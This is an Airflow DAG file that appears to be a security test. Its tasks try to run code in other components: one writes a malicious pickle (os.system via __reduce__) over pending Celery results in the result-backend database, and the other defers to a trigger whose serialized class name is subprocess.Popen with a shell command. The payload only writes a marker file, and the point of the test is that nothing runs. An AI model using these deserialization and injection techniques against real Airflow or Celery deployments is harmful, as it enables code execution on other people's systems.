"""Tasks that try to run code in other components, by what a worker may write. None of them may leave a file."""

from __future__ import annotations

import os
import pickle
import time
from typing import Any

import sqlalchemy
from airflow.providers.common.compat.sdk import DAG, TaskDeferred, task
from airflow.triggers.base import BaseTrigger

# Names the process that has run it.
MARK = "/var/lib/airflow/hostile-{kind}-$$"
COMMAND = "tr '\\0' ' ' < /proc/$PPID/cmdline > " + MARK
# Above the scheduler's loop, which looks for results every few seconds.
SECONDS = 12


class Code:
    """Runs a command wherever it is unpickled."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (COMMAND.format(kind="result"),)


class NoTrigger(BaseTrigger):
    """Names a program as its class."""

    def serialize(self) -> tuple[str, dict[str, Any]]:
        return "subprocess.Popen", {"args": COMMAND.format(kind="trigger"), "shell": True}

    async def run(self) -> Any:
        yield None


with DAG(dag_id="airfield_hostile", schedule=None):

    @task
    def result() -> int:
        """Write pickles in the place of all results that are awaited."""
        from airflow.providers.celery.executors.celery_executor_utils import app

        url = app.conf.result_backend.partition("+")[2]
        engine = sqlalchemy.create_engine(url)
        update = sqlalchemy.text("UPDATE celery_taskmeta SET result = :result WHERE status = 'STARTED'")
        count, deadline = 0, time.monotonic() + SECONDS
        while time.monotonic() < deadline:
            with engine.begin() as connection:
                count += connection.execute(update, {"result": pickle.dumps(Code())}).rowcount
            time.sleep(0.5)
        assert count, "no result was overwritten, so nothing was tried"
        return count

    @task
    def trigger() -> None:
        raise TaskDeferred(trigger=NoTrigger(), method_name="execute")

    result()
    trigger()
